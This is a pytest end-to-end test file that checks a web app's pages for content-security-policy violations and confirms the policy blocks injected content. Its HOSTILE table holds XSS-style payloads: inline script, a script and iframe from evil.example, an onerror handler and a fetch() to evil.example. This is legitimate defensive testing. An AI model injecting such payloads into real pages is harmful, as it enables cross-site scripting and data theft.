"""Every page works under the strict content policy, and the policy stops what it should stop."""

import pytest

from tests.e2e.conftest import Visitor
from tests.e2e.probe import Watch

COUNTY = "411729"
PAGES = (
    "/",
    f"/area/{COUNTY}",
    f"/area/{COUNTY}?origin=published",
    "/proposals",
    "/candidates",
    "/votes",
    f"/votes?area={COUNTY}101",
    "/delivery",
    "/appraisals",
    "/project/1",
    "/published",
    "/search?q=%E8%B7%AF",
    "/help",
    "/nowhere",
)
PLAIN_PAGES = ("/sign-in", "/audit", "/export/nothing.csv")
"""Pages without Dash: nothing takes over the first paint."""

SETTLED_MS = 300
LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(event.violatedDirective + " " + event.blockedURI));
"""


@pytest.fixture
def strict(visitor: Visitor) -> Watch:
    watch = visitor()
    watch.page.add_init_script(LISTEN)
    return watch


def violations(watch: Watch) -> list[str]:
    found: list[str] = watch.page.evaluate("window.violations")
    return found


@pytest.mark.parametrize("path", PAGES)
def test_a_page_violates_nothing(strict: Watch, path: str) -> None:
    strict.open(path)
    assert violations(strict) == []
    assert strict.faults == []
    assert strict.outside == []


@pytest.mark.parametrize("path", PLAIN_PAGES)
def test_a_page_without_dash_violates_nothing(strict: Watch, path: str) -> None:
    answer = strict.page.goto(strict.url + path)
    assert answer is not None
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    strict.page.locator("body").wait_for()
    assert violations(strict) == []
    assert [fault for fault in strict.faults if str(answer.status) not in fault] == []


def test_moving_between_pages_violates_nothing(strict: Watch) -> None:
    strict.open(f"/area/{COUNTY}")
    for name in ("办理", "评议", "总览"):
        strict.page.locator("nav.menu").get_by_text(name, exact=True).click()
        strict.settle()
    assert violations(strict) == []
    assert strict.faults == []


ADD = "document.body.append(Object.assign(document.createElement({tag!r}), {{{what}}}))"
HOSTILE = {
    "inline script": ADD.format(tag="script", what="textContent: 'window.hurt = 1'"),
    "script from elsewhere": ADD.format(tag="script", what="src: 'http://evil.example/x.js'"),
    "frame from elsewhere": ADD.format(tag="iframe", what="src: 'http://evil.example/'"),
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"hurt = 1\">')",
    "sending away": "fetch('http://evil.example/').catch(() => 0)",
}
STOPPED_BY = {
    "inline script": "script-src",
    "script from elsewhere": "script-src",
    "frame from elsewhere": "frame-src",
    "handler": "script-src",
    "sending away": "connect-src",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_an_attacker_would_put_into_a_page_is_stopped(strict: Watch, kind: str) -> None:
    strict.open("/help")
    strict.page.evaluate(f"() => {{ {HOSTILE[kind]} }}")
    strict.page.wait_for_timeout(SETTLED_MS)
    assert violations(strict)
    assert all(line.startswith(STOPPED_BY[kind]) for line in violations(strict))
    assert strict.page.evaluate("window.hurt") is None
